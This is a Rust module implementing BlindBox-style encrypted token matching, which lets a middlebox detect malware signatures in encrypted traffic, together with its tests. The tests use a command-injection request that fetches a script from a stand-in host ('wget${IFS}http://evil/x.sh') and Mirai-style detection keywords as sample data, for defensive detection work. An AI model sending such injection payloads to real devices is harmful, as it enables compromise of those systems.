//! BlindBox-style tokenized searchable encryption.
//!
//! The paper's network-layer design (§IV-B2) proposes matching
//! malware-signature keywords inside encrypted traffic *without* breaking
//! end-to-end encryption, "similar to BlindBox" [Sherry et al., SIGCOMM'15].
//! This module implements the core of that scheme:
//!
//! 1. The sender encrypts the payload normally (out of scope here) and
//!    additionally emits **tokens**: a PRF under a session token key of
//!    every sliding window of the plaintext.
//! 2. The middlebox holds rule tokens — the same PRF applied to each rule
//!    keyword (computed by the rule authority with the token key) — and
//!    matches them against traffic tokens with no access to the plaintext.
//!
//! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
//! payload length, not content (up to PRF security).

use crate::ciphers::Speck128;
use crate::kdf::derive_key;
use crate::CryptoError;

/// Sliding-window width in bytes for tokenization (BlindBox uses 8).
pub const TOKEN_WINDOW: usize = 8;

/// Number of PRF output bytes kept per token.
pub const TOKEN_SIZE: usize = 8;

/// An encrypted inspection token: the PRF image of one plaintext window.
pub type Token = [u8; TOKEN_SIZE];

// A token is `prf(cipher, "blindbox-token", window)[..8]` (see
// `crate::mac::prf`): a length-prefixed SPECK128 CBC-MAC over the
// 23-byte input `"blindbox-token" ‖ 0x1F ‖ window`. With the 8-byte
// length prefix and zero padding that is exactly two blocks:
//
//   block 1 = be64(23) ‖ "blindbox"                  (same for every window)
//   block 2 = "-token" ‖ 0x1F ‖ window ‖ 0x00
//
// As big-endian words, block 2 is `x = TAIL_X | window >> 56` and
// `y = window << 8`. So the tokenizer encrypts block 1 once and
// runs a single block encryption per window.

/// Block 1's `x` word: the CBC-MAC length prefix of the PRF input
/// (label, separator, window: 23 bytes).
const HEAD_X: u64 = (b"blindbox-token".len() + 1 + TOKEN_WINDOW) as u64;
/// Block 1's `y` word: the first eight label bytes.
const HEAD_Y: u64 = u64::from_be_bytes(*b"blindbox");
/// Block 2's `x` word without the window's first byte.
const TAIL_X: u64 = u64::from_be_bytes(*b"-token\x1f\0");

/// Reads up to [`TOKEN_WINDOW`] leading bytes as one big-endian word,
/// zero-padding short input.
fn window_word(bytes: &[u8]) -> u64 {
    let mut word = [0u8; TOKEN_WINDOW];
    let len = bytes.len().min(TOKEN_WINDOW);
    word[..len].copy_from_slice(&bytes[..len]);
    u64::from_be_bytes(word)
}

/// Per-session tokenizer shared (via the XLF Core key exchange) between
/// the endpoint and the inspecting middlebox rule authority.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// use xlf_lwcrypto::searchable::Tokenizer;
///
/// let sender = Tokenizer::new(b"session secret")?;
/// let middlebox = Tokenizer::new(b"session secret")?;
///
/// let traffic = sender.tokenize(b"GET /bot.sh HTTP/1.1");
/// let rule = middlebox.rule_token(b"/bot.sh ");
/// assert!(traffic.contains(&rule));
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct Tokenizer {
    cipher: Speck128,
    /// CBC-MAC state after block 1, with block 2's constant bytes
    /// (`TAIL_X`) already folded into the `x` word.
    midstate: (u64, u64),
}

impl Tokenizer {
    /// Derives the token key from a session secret and builds the
    /// tokenizer.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidParameter`] if the secret is empty.
    pub fn new(session_secret: &[u8]) -> Result<Self, CryptoError> {
        let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
        let cipher = Speck128::new(&key)?;
        let (x, y) = cipher.encrypt_words(HEAD_X, HEAD_Y);
        Ok(Tokenizer {
            cipher,
            midstate: (x ^ TAIL_X, y),
        })
    }

    /// The token of one window held as a big-endian word.
    fn window_token(&self, window: u64) -> Token {
        let (x, _) = self.cipher.encrypt_words(
            self.midstate.0 ^ (window >> 56),
            self.midstate.1 ^ (window << 8),
        );
        x.to_be_bytes()
    }

    /// Produces the token stream for an outgoing payload: one token per
    /// sliding window (stride 1). Payloads shorter than the window emit a
    /// single zero-padded token.
    pub fn tokenize(&self, payload: &[u8]) -> Vec<Token> {
        let mut tokens = Vec::new();
        self.tokenize_into(payload, &mut tokens);
        tokens
    }

    /// [`Tokenizer::tokenize`] into a caller-owned buffer, which is
    /// cleared first so hot loops can reuse its allocation.
    pub fn tokenize_into(&self, payload: &[u8], out: &mut Vec<Token>) {
        out.clear();
        out.reserve(payload.len().saturating_sub(TOKEN_WINDOW) + 1);
        let mut window = window_word(payload);
        out.push(self.window_token(window));
        for &byte in payload.get(TOKEN_WINDOW..).unwrap_or_default() {
            window = (window << 8) | u64::from(byte);
            out.push(self.window_token(window));
        }
    }

    /// Produces the token for a rule keyword. Keywords shorter than the
    /// window are zero-padded (and will then only match padded short
    /// payloads); longer keywords use their first window — callers should
    /// split long keywords into windows via [`Tokenizer::rule_tokens`].
    pub fn rule_token(&self, keyword: &[u8]) -> Token {
        self.window_token(window_word(keyword))
    }

    /// Splits a long keyword into consecutive window tokens (stride 1), so
    /// a match requires the full keyword to appear contiguously.
    pub fn rule_tokens(&self, keyword: &[u8]) -> Vec<Token> {
        self.tokenize(keyword)
    }
}

/// Matches rule tokens against a traffic token stream: returns the indices
/// where the full rule-token sequence occurs contiguously.
///
/// This is the naive reference path — O(|rule| × |traffic|) per rule, so
/// O(rules × traffic) for a rule set. Production inspection goes through
/// [`TokenIndex`], which amortizes the whole rule set into one pass;
/// this scan is kept for A/B measurement and as the equivalence oracle
/// in property tests.
pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
    if rule.is_empty() || rule.len() > traffic.len() {
        return Vec::new();
    }
    traffic
        .windows(rule.len())
        .enumerate()
        .filter(|(_, w)| *w == rule)
        .map(|(i, _)| i)
        .collect()
}

/// Tokens are already PRF images — uniformly distributed 8-byte strings —
/// so the index hashes them by identity (their first 8 bytes *are* a
/// high-quality hash). Re-hashing through SipHash would only add cost.
#[derive(Debug, Clone, Copy, Default)]
struct TokenIdentityHasher(u64);

impl std::hash::Hasher for TokenIdentityHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, _bytes: &[u8]) {
        unreachable!("TokenIndex only hashes u64 keys");
    }
    fn write_u64(&mut self, value: u64) {
        self.0 = value;
    }
}

type TokenMap<V> =
    std::collections::HashMap<u64, V, std::hash::BuildHasherDefault<TokenIdentityHasher>>;

fn token_key(token: &Token) -> u64 {
    u64::from_le_bytes(*token)
}

/// Single-pass multi-rule matching over encrypted token streams.
///
/// Per-session rule-token sequences go into a hash index keyed by each
/// rule's **first** window token. The traffic stream is walked once; an
/// index hit at offset `i` nominates candidate rules, and a candidate
/// matches when its remaining window tokens chain at consecutive offsets
/// `i+1, i+2, …` (multi-window rules are exactly consecutive sliding
/// windows of the keyword, so the chain check is a contiguous slice
/// compare). Expected cost is O(traffic tokens + verified candidates)
/// instead of the naive O(rules × traffic tokens).
#[derive(Debug, Clone, Default)]
pub struct TokenIndex {
    /// First window token → ids of rules starting with it.
    heads: TokenMap<Vec<u32>>,
    /// Full token sequences, in the id order given to [`TokenIndex::build`].
    rules: Vec<Vec<Token>>,
}

impl TokenIndex {
    /// Builds the index from per-rule token sequences (as produced by
    /// [`Tokenizer::rule_tokens`]). Empty sequences are accepted and
    /// never match, mirroring [`match_rule`].
    pub fn build(rules: Vec<Vec<Token>>) -> Self {
        let mut heads: TokenMap<Vec<u32>> = TokenMap::default();
        for (id, rule) in rules.iter().enumerate() {
            if let Some(first) = rule.first() {
                heads.entry(token_key(first)).or_default().push(id as u32);
            }
        }
        TokenIndex { heads, rules }
    }

    /// Number of indexed rules.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    fn chains_at(&self, traffic: &[Token], rule: &[Token], offset: usize) -> bool {
        offset + rule.len() <= traffic.len() && traffic[offset..offset + rule.len()] == rule[..]
    }

    /// Finds the first match offset of each rule in one traffic pass,
    /// stopping early once every rule has matched. `out` is reset by the
    /// callee, so a caller scanning many streams can reuse the allocation.
    pub fn find_first_per_rule_into(&self, traffic: &[Token], out: &mut Vec<Option<usize>>) {
        out.clear();
        out.resize(self.rules.len(), None);
        let mut remaining = self.heads.values().map(Vec::len).sum::<usize>();
        if remaining == 0 {
            return;
        }
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                let slot = &mut out[id as usize];
                if slot.is_none() && self.chains_at(traffic, &self.rules[id as usize], offset) {
                    *slot = Some(offset);
                    remaining -= 1;
                    if remaining == 0 {
                        return;
                    }
                }
            }
        }
    }

    /// Allocating convenience wrapper over
    /// [`TokenIndex::find_first_per_rule_into`].
    pub fn find_first_per_rule(&self, traffic: &[Token]) -> Vec<Option<usize>> {
        let mut out = Vec::new();
        self.find_first_per_rule_into(traffic, &mut out);
        out
    }

    /// Every match offset of every rule (the full [`match_rule`]
    /// answer for the whole set), still in one traffic pass.
    pub fn find_positions(&self, traffic: &[Token]) -> Vec<Vec<usize>> {
        let mut out = vec![Vec::new(); self.rules.len()];
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                if self.chains_at(traffic, &self.rules[id as usize], offset) {
                    out[id as usize].push(offset);
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(token: &Token) -> String {
        token.iter().map(|b| format!("{b:02x}")).collect()
    }

    /// Tokens pinned from the reference `mac::prf` definition: any drift
    /// would silently break rule tokens compiled by another party.
    #[test]
    fn known_answer_tokens() {
        let t = Tokenizer::new(b"xlf known-answer secret").unwrap();
        let single = |payload: &[u8]| {
            let tokens = t.tokenize(payload);
            assert_eq!(tokens.len(), 1);
            hex(&tokens[0])
        };
        assert_eq!(single(b""), "6d3e71a8dfd668a8");
        assert_eq!(single(b"hi"), "23b03d69cfacfa49");
        assert_eq!(single(b"NEEDLE01"), "916c3ff03e6110b3");
        assert_eq!(hex(&t.rule_token(b"wget${IFS}")), "28f462a2a7b5480d");

        let telemetry = br#"{"dev":"thermo-01","t":21.5,"h":40,"seq":12345,"ok":true}"#;
        assert_eq!(telemetry.len(), 57);
        let tokens = t.tokenize(telemetry);
        assert_eq!(tokens.len(), 50);
        assert_eq!(hex(&tokens[0]), "b36f30b53cbfc972");
        assert_eq!(hex(&tokens[24]), "c35e4515ffb78250");
        assert_eq!(hex(&tokens[49]), "f0756533759ee7fe");
        let fold = tokens
            .iter()
            .fold(0u64, |acc, t| acc.rotate_left(7) ^ u64::from_le_bytes(*t));
        assert_eq!(fold, 0xd4e0_edc4_6122_7a2c);

        let other = Tokenizer::new(b"k").unwrap();
        assert_eq!(
            hex(&other.rule_token(b"/bin/busybox MIRAI")),
            "7922866939b082a1"
        );
    }

    #[test]
    fn tokenize_into_clears_a_reused_buffer() {
        let t = Tokenizer::new(b"k").unwrap();
        let mut buf = Vec::new();
        t.tokenize_into(b"a long first payload", &mut buf);
        assert_eq!(buf, t.tokenize(b"a long first payload"));
        t.tokenize_into(b"hi", &mut buf);
        assert_eq!(buf, t.tokenize(b"hi"));
        t.tokenize_into(b"", &mut buf);
        assert_eq!(buf, vec![t.rule_token(b"")]);
    }

    #[test]
    fn matching_without_plaintext() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(!match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn clean_traffic_does_not_match() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"GET /weather/today?zip=44106 HTTP/1.1");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn different_sessions_produce_unlinkable_tokens() {
        let a = Tokenizer::new(b"session A").unwrap();
        let b = Tokenizer::new(b"session B").unwrap();
        assert_ne!(a.tokenize(b"identical"), b.tokenize(b"identical"));
    }

    #[test]
    fn match_positions_are_correct() {
        let t = Tokenizer::new(b"k").unwrap();
        let payload = b"xxxxNEEDLE01yyyyNEEDLE01";
        let traffic = t.tokenize(payload);
        let rule = t.rule_tokens(b"NEEDLE01");
        assert_eq!(match_rule(&traffic, &rule), vec![4, 16]);
    }

    #[test]
    fn short_payload_and_keyword_roundtrip() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"hi");
        let rule = t.rule_token(b"hi");
        assert_eq!(traffic, vec![rule]);
    }

    #[test]
    fn empty_rule_never_matches() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"whatever payload");
        assert!(match_rule(&traffic, &[]).is_empty());
    }

    #[test]
    fn token_index_agrees_with_naive_scan() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let rules: Vec<Vec<Token>> = [
            &b"wget${IFS}"[..],
            b"/bin/busybox MIRAI",
            b"NEEDLE01",
            b"",
            b"absent-keyword",
        ]
        .iter()
        .map(|kw| t.rule_tokens(kw))
        .collect();
        let index = TokenIndex::build(rules.clone());
        assert_eq!(index.rule_count(), rules.len());
        for payload in [
            &b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0"[..],
            b"xxxxNEEDLE01yyyyNEEDLE01",
            b"GET /weather/today?zip=44106 HTTP/1.1",
            b"hi",
            b"",
        ] {
            let traffic = t.tokenize(payload);
            let expected_firsts: Vec<Option<usize>> = rules
                .iter()
                .map(|r| match_rule(&traffic, r).first().copied())
                .collect();
            assert_eq!(index.find_first_per_rule(&traffic), expected_firsts);
            let expected_all: Vec<Vec<usize>> =
                rules.iter().map(|r| match_rule(&traffic, r)).collect();
            assert_eq!(index.find_positions(&traffic), expected_all);
        }
    }

    #[test]
    fn token_index_handles_shared_first_window() {
        // Two rules with the same first window but different tails must
        // both resolve through the same index bucket.
        let t = Tokenizer::new(b"k").unwrap();
        let rules = vec![t.rule_tokens(b"prefix-AAAA"), t.rule_tokens(b"prefix-BBBB")];
        let index = TokenIndex::build(rules);
        let traffic = t.tokenize(b"zz prefix-BBBB zz");
        assert_eq!(index.find_first_per_rule(&traffic), vec![None, Some(3)]);
    }

    #[test]
    fn token_index_scratch_buffer_is_reset() {
        let t = Tokenizer::new(b"k").unwrap();
        let index = TokenIndex::build(vec![t.rule_tokens(b"NEEDLE01")]);
        let mut scratch = Vec::new();
        index.find_first_per_rule_into(&t.tokenize(b"..NEEDLE01.."), &mut scratch);
        assert_eq!(scratch, vec![Some(2)]);
        index.find_first_per_rule_into(&t.tokenize(b"clean payload"), &mut scratch);
        assert_eq!(scratch, vec![None]);
    }

    #[test]
    fn tokens_do_not_reveal_plaintext_bytes() {
        let t = Tokenizer::new(b"k").unwrap();
        let tokens = t.tokenize(b"AAAAAAAAAAAAAAAA");
        // All windows identical → all tokens identical (expected leak), but
        // the token bytes must not equal the plaintext bytes.
        for token in &tokens {
            assert_ne!(&token[..], b"AAAAAAAA");
        }
    }
}
